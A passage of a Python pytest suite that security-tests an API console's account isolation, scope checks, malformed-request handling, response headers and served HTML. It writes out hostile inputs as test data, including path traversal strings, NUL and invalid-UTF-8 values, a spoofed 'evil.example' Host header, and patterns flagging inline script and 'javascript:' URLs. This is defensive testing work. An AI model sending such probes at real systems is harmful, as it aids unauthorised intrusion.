    console_server: ConsoleServer,
) -> None:
    account = new_account(console_server)
    owner = bearer(console_server, account["api_key"])
    reader = owner.post("/v1/keys", json={"name": "reader", "scopes": ["tasks:read"]}).json()
    session = open_session(console_server, reader["secret"])
    for path in ("/console", "/console/keys", "/console/webhooks", "/console/credits"):
        assert session.client.get(path).status_code == 403, path
    for method, path, body in (
        ("POST", "/v1/images/generations", {"model": "preview-image", "prompt": "x"}),
        ("POST", "/v1/keys", {"name": "wider", "scopes": ["keys:manage"]}),
        ("POST", "/v1/webhooks", {"url": "http://127.0.0.1:9/w"}),
        ("POST", f"/v1/keys/{account['api_key_id']}/revoke", None),
    ):
        answer = session.write(method, path, json=body)
        assert answer.status_code == 403, (method, path, answer.status_code)
    assert session.client.get("/v1/credits").status_code == 403
    assert session.client.get("/v1/tasks").status_code == 200


# -- one account's session never reaches another's data -----------------------------------


def test_a_session_never_reaches_another_accounts_data(
    page: Page, console_server: ConsoleServer
) -> None:
    victim = new_account(console_server)
    victim_api = bearer(console_server, victim["api_key"])
    secret = f"victim-secret-{secrets.token_hex(4)}"
    task = image_task(victim_api, f"prompt {secret}", metadata={"team": secret})
    hook = victim_api.post(
        "/v1/webhooks", json={"url": "http://127.0.0.1:9/v", "description": secret}
    )
    assert hook.status_code == 201, hook.text
    hook_id = hook.json()["id"]
    attacker = new_account(console_server)
    session = open_session(console_server, attacker["api_key"])
    for path in (
        f"/v1/tasks/{task['id']}",
        f"/v1/tasks/{task['id']}/events",
        f"/v1/webhooks/{hook_id}",
        f"/v1/webhooks/{hook_id}/deliveries",
        f"/v1/videos/{task['id']}",
    ):
        answer = session.client.get(path)
        assert answer.status_code == 404, (path, answer.status_code)
        assert secret not in answer.text
    for method, path in (
        ("POST", f"/v1/tasks/{task['id']}/cancel"),
        ("POST", f"/v1/keys/{victim['api_key_id']}/revoke"),
        ("POST", f"/v1/keys/{victim['api_key_id']}/rotate"),
        ("DELETE", f"/v1/keys/{victim['api_key_id']}"),
        ("PATCH", f"/v1/webhooks/{hook_id}"),
        ("DELETE", f"/v1/webhooks/{hook_id}"),
        ("POST", f"/v1/webhooks/{hook_id}/test"),
        ("POST", f"/v1/webhooks/{hook_id}/rotate-secret"),
    ):
        body = {"description": "owned"} if method == "PATCH" else None
        answer = session.write(method, path, json=body)
        assert answer.status_code == 404, (method, path, answer.status_code)
    for path in (
        "/v1/tasks",
        f"/v1/tasks?metadata=team:{secret}",
        "/v1/credits/ledger",
        "/v1/keys",
        "/v1/webhooks",
        "/v1/usage?group_by=metadata.team",
        "/console/usage.csv?group_by=metadata.team",
        "/console/usage/chart.svg?group_by=metadata.team",
    ):
        answer = session.client.get(path)
        assert answer.status_code == 200, path
        assert secret not in answer.text and task["id"] not in answer.text, path
    # An idempotency key the victim used replays nothing of the victim's to the attacker.
    reused = f"idem-{secrets.token_hex(4)}"
    body = {"model": "preview-image", "prompt": f"again {secret}"}
    first = victim_api.post(
        "/v1/images/generations", json=body, headers={"Idempotency-Key": reused}
    )
    assert first.status_code == 200, first.text
    replay = session.write(
        "POST", "/v1/images/generations", json=body, headers={"Idempotency-Key": reused}
    )
    assert replay.status_code == 200, replay.text
    assert first.json()["data"][0]["url"] != replay.json()["data"][0]["url"]
    # The victim's key and webhook are untouched.
    assert victim_api.get("/v1/credits").status_code == 200
    assert victim_api.get(f"/v1/webhooks/{hook_id}").json()["description"] == secret
    # The console's own task page for the victim's task: the shell, an error, no data.
    sign_in(page, attacker["api_key"])
    page.goto(f"/console/tasks/{task['id']}")
    expect(page.locator("#task-error")).to_be_visible()
    assert secret not in page.content()


# -- odd and oversized requests -----------------------------------------------------------


def test_odd_console_requests_never_fail_on_the_server(console_server: ConsoleServer) -> None:
    session = open_session(console_server, console_server.user["api_key"])
    client = session.client
    start = log_position(console_server)
    answers: list[tuple[str, int]] = []

    def check(label: str, response: httpx.Response) -> None:
        answers.append((label, response.status_code))

    for path in (
        "/console/tasks/" + "a" * 41,
        "/console/tasks/" + "a" * 5000,
        "/console/tasks/%00",
        "/console/tasks/%FF%FE",
        "/console/tasks/%E2%80%AE",
        "/console/tasks/..%2F..%2Fv1%2Fkeys",
        "/console/" + "x" * 6000,
        f"{SIGN_IN}?next=/console/" + "a" * 7000,
        f"{SIGN_IN}?next=%00",
        f"{SIGN_IN}?next=%C0%AF",
        f"{SIGN_IN}?next=" + "%2F" * 2000,
        "/console/usage/chart.svg?from=8999-12-31&to=9000-01-01",
        "/console/usage/chart.svg?to=0",
        "/console/usage/chart.svg?to=1970-01-01T00:00:01Z",
        "/console/usage/chart.svg?from=2026-01-01T00:00:00.000001&to=2026-01-01T00:00:00.000002",
        "/console/usage/chart.svg?from=2026-01-01T00:00:00-23:59&to=2026-01-02T00:00:00%2B23:59",
        "/console/usage/chart.svg?from=2025-01-01&to=2026-01-02&width=1&height=1&kind=line",
        "/console/usage/chart.svg?group_by=day&group_by=model&from=x&from=2026-01-01",
        "/console/usage.csv?group_by=metadata." + "a" * 64,
        "/console/credits?after=" + "%E2%98%83" * 300,
        "/console/tasks?metadata=" + quote('a"b\\:$[0]') + "&from=-1&status=%00",
        "/console/static/..%2F..%2Fweb.py",
        "/console/static/%2e%2e/templates/base.html",
    ):
        check(path[:80], client.get(path))
    for label, name, value in (
        ("unparseable cookie", "Cookie", 'framegate_console="\\"; a=b; ;;=='),
        ("non-ascii cookie", "Cookie", "framegate_console=" + "é" * 43),
        (
            "two session cookies",
            "Cookie",
            f"framegate_console=x; framegate_console={session.token}",
        ),
        ("huge cookie", "Cookie", "framegate_console=" + "a" * 8000),
        ("bad bearer", "Authorization", "Bearer <script>"),
        ("other scheme", "Authorization", "Basic " + "QQ==" * 10),
    ):
        raw_header = [(name.encode(), value.encode())]
        check(label, httpx.get(console_server.url + "/console", headers=raw_header))
    for label, content, content_type in (
        ("overlong key", "api_key=" + "a" * 201, "application/x-www-form-urlencoded"),
        ("unicode key", "api_key=fg_live_%C3%BC%E2%80%AE", "application/x-www-form-urlencoded"),
        (
            "overlong next",
            "api_key=x&next=/console/" + "a" * 2001,
            "application/x-www-form-urlencoded",
        ),
        ("invalid utf-8", "api_key=%FF%FE", "application/x-www-form-urlencoded"),
        ("nul", "api_key=fg%00", "application/x-www-form-urlencoded"),
        (
            "repeated fields",
            "api_key=a&api_key=b&next=/x&next=//y",
            "application/x-www-form-urlencoded",
        ),
        ("json body", '{"api_key": ["fg_live_"]}', "application/json"),
        ("deep json", "[" * 5000 + "]" * 5000, "application/json"),
        ("multipart without boundary", "garbage", "multipart/form-data"),
        (
            "multipart invalid utf-8",
            '--b\r\nContent-Disposition: form-data; name="api_key"\r\n\r\n\udcff\r\n--b--\r\n',
            "multipart/form-data; boundary=b",
        ),
        ("xml", "<api_key>x</api_key>", "application/xml"),
    ):
        check(
            label,
            httpx.post(
                console_server.url + SIGN_IN,
                content=content.encode("utf-8", "surrogateescape"),
                headers={"Content-Type": content_type},
            ),
        )
    for method in ("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "HEAD"):
        check(f"{method} /console", client.request(method, "/console"))
    failed = [(label, status) for label, status in answers if status >= 500]
    assert not failed, f"server errors: {failed}"
    log = log_since(console_server, start)
    assert "Traceback" not in log and "unhandled error" not in log, log[-4000:]


# -- headers of every console response ----------------------------------------------------


def assert_secured(response: httpx.Response, what: str) -> None:
    headers = response.headers
    csp = headers.get("content-security-policy", "")
    assert csp, f"{what}: no Content-Security-Policy ({response.status_code})"
    directives = dict(
        [*part.strip().split(" ", 1), ""][:2] for part in csp.split(";") if part.strip()
    )
    assert directives.get("script-src") == "'self'", (what, csp)
    assert "unsafe" not in csp and "*" not in directives.get("default-src", ""), (what, csp)
    assert directives.get("frame-ancestors") == "'none'", (what, csp)
    assert directives.get("object-src") == "'none'", (what, csp)
    assert directives.get("base-uri") == "'none'", (what, csp)
    assert headers.get("x-frame-options") == "DENY", what
    assert headers.get("x-content-type-options") == "nosniff", what
    assert headers.get("cache-control") == "no-store", what


def console_responses(server: ConsoleServer) -> list[tuple[str, httpx.Response]]:
    """One of each kind of response the console gives: pages, errors, redirects, files."""
    user = open_session(server, server.user["api_key"])
    admin = open_session(server, server.admin["api_key"])
    anonymous = httpx.Client(base_url=server.url, follow_redirects=False, timeout=30)
    found = [(f"user {p}", user.client.get(p)) for p in PAGES]
    found += [(f"admin {p}", admin.client.get(p)) for p in PAGES]
    found += [
        ("task page", user.client.get("/console/tasks/task_doesnotexist")),
        ("chart", user.client.get("/console/usage/chart.svg")),
        ("csv", user.client.get("/console/usage.csv")),
        ("404", user.client.get("/console/nothing-here")),
        ("422", user.client.get("/console/tasks/" + "a" * 41)),
        ("422 guard", user.client.get("/console/tasks/%00")),
        ("405", user.client.get("/console/sign-out")),
        ("403 form token", user.client.post("/console/sign-out", data={})),
        (
            "403 cross-site (middleware)",
            user.client.post("/console/sign-out", headers={"Origin": EVIL}),
        ),
        ("sign-in page", anonymous.get(SIGN_IN)),
        ("401 sign-in", anonymous.post(SIGN_IN, data={"api_key": "fg_live_nope"})),
        ("403 sign-in", anonymous.post(SIGN_IN, data={"api_key": "x"}, headers={"Origin": EVIL})),
        ("redirect to sign-in", anonymous.get("/console/keys?x=1")),
        ("redirect chart to sign-in", anonymous.get("/console/usage/chart.svg")),
        (
            "redirect after sign-in",
            anonymous.post(SIGN_IN, data={"api_key": server.user["api_key"]}),
        ),
        ("redirect when signed in", user.client.get(SIGN_IN)),
    ]
    leaving = open_session(server, server.user["api_key"])
    out = leaving.client.post("/console/sign-out", data={"csrf_token": leaving.csrf})
    found.append(("redirect after sign-out", out))
    return found


def test_every_console_response_carries_the_security_headers(
    console_server: ConsoleServer,
) -> None:
    for what, response in console_responses(console_server):
        assert_secured(response, what)


def test_trailing_slash_redirects_under_console_are_the_consoles_own(
    console_server: ConsoleServer,
) -> None:
    """Starlette answers /console/ (and any console path with a trailing slash) with its own
    307 to the path without the slash, built outside the console's ``secure``: no CSP, no
    X-Frame-Options, no Cache-Control: no-store, and an absolute Location whose host is
    whatever the request's Host header said."""
    session = open_session(console_server, console_server.user["api_key"])
    problems = []
    for path in ("/console/", "/console/usage/", "/console/keys/"):
        answer = session.client.get(path)
        assert answer.status_code in (301, 302, 303, 307, 308), answer.status_code
        try:
            assert_secured(answer, f"redirect of {path}")
        except AssertionError as missing:
            problems.append(str(missing).splitlines()[0])
        spoofed = session.client.get(path, headers={"Host": "evil.example"})
        location = spoofed.headers.get("location", "")
        if urlsplit(location).netloc not in ("", urlsplit(console_server.url).netloc):
            problems.append(f"redirect of {path} with Host: evil.example goes to {location}")
    assert not problems, "\n".join(problems)


class _Markup(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = dict(attrs)
        if tag == "script":
            self._in_script = True
            if not named.get("src"):
                self.problems.append("inline <script>")
            elif urlsplit(named["src"] or "").netloc not in ("", self.netloc):
                self.problems.append(f"foreign script {named['src']}")
        if tag == "style":
            self.problems.append("inline <style>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}>")
            if name == "style":
                self.problems.append(f"<{tag} style>")
            if name in ("href", "src", "action", "formaction") and (
                value or ""
            ).strip().lower().startswith(("javascript:", "data:text/html")):
                self.problems.append(f"<{tag} {name}={value}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.problems.append("script content")

    netloc = ""


def test_no_served_html_holds_inline_script_or_style(console_server: ConsoleServer) -> None:
    checked = 0
    for what, response in console_responses(console_server):
        if not response.headers.get("content-type", "").startswith("text/html"):
            continue
        parser = _Markup()
        parser.netloc = urlsplit(console_server.url).netloc
        parser.feed(response.text)
        assert not parser.problems, f"{what}: {parser.problems}"
        checked += 1
    assert checked >= 20
